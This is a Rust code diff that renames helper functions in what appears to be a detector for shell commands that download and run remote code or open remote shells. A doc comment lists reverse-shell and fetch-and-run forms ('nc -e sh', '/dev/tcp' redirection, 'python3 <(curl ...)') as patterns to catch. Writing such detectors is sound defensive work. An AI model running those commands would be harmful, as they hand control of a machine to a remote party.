@@ -22,7 +22,7 @@ use table::{
 /// Most files with code from elsewhere that are followed.
 const MOST_FETCHED: usize = 256;
 
-pub(super) fn look(
+pub(super) fn note_run_code(
     line: &Line,
     views: &[View<'_>],
     groups: &[Redirected],
@@ -95,7 +95,7 @@ impl Kinds {
     /// `python3 <(curl ...)`, and shells whose ends are on another machine: `nc -e sh host 99`, `sh > /dev/tcp/host/99`.
     fn remote(&mut self, views: &[View<'_>], groups: &[Redirected]) {
         let connected = views.iter().any(|view| {
-            SOCKETS.contains(&view.name.as_str()) && !hosts::contacted(view).is_empty()
+            SOCKETS.contains(&view.name.as_str()) && !hosts::contacted_hosts(view).is_empty()
         });
         let is_socket = |file: &str| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/");
         let of_group = groups.iter().any(|(_, file)| is_socket(file));
@@ -157,7 +157,7 @@ impl Kinds {
             runs_files(view).for_each(|name| self.0.extend(fetched.kinds(name)));
             let Some(kind) = bringing(view) else { continue };
             if DOWNLOADERS.contains(&view.name.as_str()) {
-                hosts::saved(view).iter().for_each(|file| fetched.add(kind, file));
+                hosts::saved_files(view).iter().for_each(|file| fetched.add(kind, file));
             }
             let to = view.redirects.iter().filter(|(operator, _)| operator.starts_with('>'));
             to.for_each(|(_, file)| fetched.add(kind, file));
@@ -220,7 +220,7 @@ fn brings(view: &View<'_>) -> Option<&'static str> {
             && operands().len() > 1
             && operands().iter().take(2).any(|verb| verbs.is_empty() || verbs.contains(verb))
     };
-    if (fetches && (hosts::names_another(view) || !hosts::contacted(view).is_empty()))
+    if (fetches && (hosts::names_another(view) || !hosts::contacted_hosts(view).is_empty()))
         || PRINTING.iter().any(prints)
     {
         return Some("downloaded");
@@ -366,7 +366,7 @@ fn inside(source: &str, meter: &Meter<'_>) -> Vec<&'static str> {
     let line = shell::read_while(&format!(": {source}"), &|steps| meter.spend(steps));
     let Some(inner) = line else { return Vec::new() };
     let paths = super::path::Paths::default();
-    let seen = super::follow::look(&inner, &paths, meter);
+    let seen = super::follow::follow_line(&inner, &paths, meter);
     seen.views.iter().filter_map(brings).collect()
 }
 
